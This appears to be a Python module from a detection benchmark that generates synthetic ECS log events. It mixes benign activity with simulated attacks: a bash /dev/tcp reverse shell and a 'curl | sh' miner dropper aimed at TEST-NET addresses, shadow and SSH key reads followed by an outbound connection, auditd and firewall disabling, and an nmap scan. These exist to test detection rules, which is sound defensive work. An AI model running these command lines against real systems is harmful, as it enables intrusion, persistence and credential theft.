# ruff: noqa: S108 - temp paths are data of the synthetic stream
"""The synthetic ECS event stream: the benign workload with rare attack scenarios interleaved.

:func:`generate_events` returns nested ECS documents as Elasticsearch stores them, deterministic
for a seed. The attacks (web shells with reverse shells, ``curl | sh`` droppers, credential
theft, defence evasion, scans, direct-to-IP downloads) use the tools and addresses below, which
the "hot" rule variants of :mod:`guard.bench.synth.rules` target.
"""

from __future__ import annotations

import heapq
from collections.abc import Callable
from functools import partial
from typing import Final

from guard.bench.synth.workload import Workload
from guard.bench.synth.world import USERS, Event

__all__ = ["HOT_C2", "HOT_DROP_DIR", "HOT_MINER", "generate_events"]

#: Tools and names the attack scenarios of the stream use (the "hot" rule variants target these).
HOT_C2: Final = ("203.0.113.", "198.51.100.")  # TEST-NET-3 / TEST-NET-2: reverse shells, payloads
HOT_MINER: Final = "kdevtmpfsi"
HOT_DROP_DIR: Final = "/tmp/.X25-unix/.rsync/"
_BASE_TS: Final = 1_735_689_600_000  # 2025-01-01T00:00:00Z, epoch milliseconds


class _Stream(Workload):
    """The workload with attack scenarios: one attack's events are due over the next few events."""

    def attack(self) -> list[Callable[[], Event]]:
        """One attack scenario: its events, in order, as builders run when they are due."""
        r = self.rng
        kind = r.randrange(7)
        web = [h for h in self.hosts if h.role == "web"]
        host = r.choice(web) if kind in (0, 1) else r.choice(self.hosts)
        c2 = f"{HOT_C2[0]}{r.randrange(2, 250)}"
        drop = f"{HOT_C2[1]}{r.randrange(2, 250)}"
        www = ("33", "www-data")
        root = ("0", "root")
        steps: list[Callable[[], Event]] = []
        if kind in (0, 1):  # web shell: recon, then a reverse shell
            fpm = host.daemons["php-fpm8.2"]
            sh = self._proc(
                host,
                fpm,
                "sh",
                ["sh", "-c", f"bash -i >& /dev/tcp/{c2}/4444 0>&1"],
                www,
                "/var/www/site-3/upload",
            )
            bash = self._proc(host, sh, "bash", ["bash", "-i"], www, "/var/www/site-3/upload")
            recon = [self._proc(host, sh, t, [t], www, "/var/www/site-3/upload") for t in ("id", "uname")]
            steps += [lambda: self.process_start(sh), *[partial(self.process_start, p) for p in recon]]
            steps += [lambda: self.process_start(bash), lambda: self.net_event(bash, c2, 4444)]
            if kind == 1:
                steps.append(lambda: self.file_event(bash, "/etc/passwd"))
                steps.append(lambda: self.process_end(bash))
        elif kind == 2:  # curl | sh dropper: a miner in a hidden temp directory
            parent = self._pick_parent(host)
            sh = self._proc(
                host, parent, "sh", ["sh", "-c", f"curl -fsSL http://{drop}/ldr.sh | sh"], root, "/root"
            )
            curl = self._proc(host, sh, "curl", ["curl", "-fsSL", f"http://{drop}/ldr.sh"], root, "/root")
            path = HOT_DROP_DIR + HOT_MINER
            chmod = self._proc(host, sh, "chmod", ["chmod", "+x", path], root, "/root")
            miner = self._proc(host, sh, HOT_MINER, [path], root, "/root", exe=path)
            steps += [lambda: self.process_start(sh), lambda: self.process_start(curl)]
            steps += [lambda: self.net_event(curl, drop, 80), lambda: self.file_event(curl, path, "creation")]
            steps += [lambda: self.process_start(chmod), lambda: self.process_start(miner)]
            steps += [lambda: self.net_event(miner, f"{drop}", 3333)]
            steps += [lambda: self.file_event(sh, "/etc/cron.d/.sysupdate", "creation")]
        elif kind == 3:  # credentials: shadow and SSH keys read, then sent out
            user = ("1000", "alice")
            py = self._proc(
                host, self._pick_parent(host), "python3", ["python3", "-c", "import os"], user, "/home/alice"
            )
            steps += [lambda: self.process_start(py), lambda: self.file_event(py, "/etc/passwd")]
            steps += [
                lambda: self.file_event(py, "/etc/shadow"),
                lambda: self.file_event(py, "/home/alice/.ssh/id_rsa"),
            ]
            steps += [lambda: self.net_event(py, self.public_ip(), 443)]
        elif kind == 4:  # defence evasion as root
            parent = self._pick_parent(host)
            cmds = (
                ("systemctl", ["systemctl", "stop", "auditd"]),
                ("iptables", ["iptables", "-F"]),
                ("setenforce", ["setenforce", "0"]),
            )
            for name, args in cmds:
                p = self._proc(host, parent, name, args, root, "/root")
                steps.append(partial(self.process_start, p))
        elif kind == 5:  # a scan from a compromised host
            nmap = self._proc(
                host,
                self._pick_parent(host),
                "nmap",
                ["nmap", "-sS", "-p", "1-1024", "10.0.3.0/24"],
                root,
                "/root",
            )
            steps.append(lambda: self.process_start(nmap))
            for _ in range(4):
                ip, port = self.internal_ip(), r.choice((22, 80, 443, 3306))
                steps.append(partial(self.net_event, nmap, ip, port))
        else:  # a direct-to-IP download without DNS, then exfiltration of a key
            user = r.choice(USERS[3:6])
            curl = self._proc(
                host,
                self._pick_parent(host),
                "curl",
                ["curl", "-sO", f"http://{drop}/t.tgz"],
                user,
                f"/home/{user[1]}",
            )
            steps += [lambda: self.process_start(curl), lambda: self.net_event(curl, drop, 80)]
            py = self._proc(host, curl, "python3", ["python3", "x.py"], user, f"/home/{user[1]}")
            steps += [lambda: self.process_start(py), lambda: self.file_event(py, "/var/run/docker.sock")]
        return steps


def generate_events(n: int = 200_000, seed: int = 7) -> list[Event]:
    """Return ``n`` deterministic ECS events (nested objects), in ``@timestamp``/``event.sequence`` order.

    About 45% process (starts and some ends), 35% file and 20% network events, from twelve hosts in
    five roles, with rare attack scenarios interleaved (their events spread over a few tens of ms).
    """
    stream = _Stream(seed)
    r = stream.rng
    out: list[Event] = []
    due: list[tuple[int, int, Callable[[], Event]]] = []
    order = 0
    ts = _BASE_TS
    i = 0
    while len(out) < n:
        i += 1
        if due and due[0][0] <= i:
            ev = heapq.heappop(due)[2]()
        elif r.random() < 1 / 900:
            steps = stream.attack()
            at = i
            for step in steps[1:]:
                at += 1 + r.randrange(12)
                order += 1
                heapq.heappush(due, (at, order, step))
            ev = steps[0]()
        else:
            host = r.choice(stream.hosts)
            roll = r.random()
            if roll < 0.38:
                ev = stream.benign_process(host)
            elif roll < 0.45:
                ev = stream.benign_end(host)
            elif roll < 0.80:
                ev = stream.benign_file(host)
            else:
                ev = stream.benign_net(host)
        ts += r.choice((0, 1, 1, 2, 2, 3, 4, 5))
        ev["@timestamp"] = ts
        ev["event"]["sequence"] = len(out) + 1
        out.append(ev)
    return out
